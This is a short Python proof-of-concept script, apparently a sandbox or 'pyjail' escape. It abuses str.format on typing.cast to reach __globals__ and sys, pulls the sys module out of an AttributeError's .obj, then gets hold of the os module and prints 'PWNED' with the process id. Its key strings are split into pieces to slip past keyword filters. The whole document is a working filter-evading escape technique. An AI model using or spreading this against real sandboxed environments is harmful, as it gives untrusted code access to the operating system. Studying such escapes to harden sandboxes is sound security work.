# A runtime-computed format field walks attributes in C (PyObject_GetAttr) with no guard;
# a final missing attribute raises AttributeError whose .obj is the object the chain reached.
import typing
field = "{0.__glo" + "bals__[s" + "ys].zzz_missing}"
try:
    field.format(typing.cast)
except AttributeError as e:
    S = e.obj
mods = S.modules
O = mods["o" + "s"]
print("PW" + "NED", O.getpid(), len(mods), type(S).__name__, S.__name__)
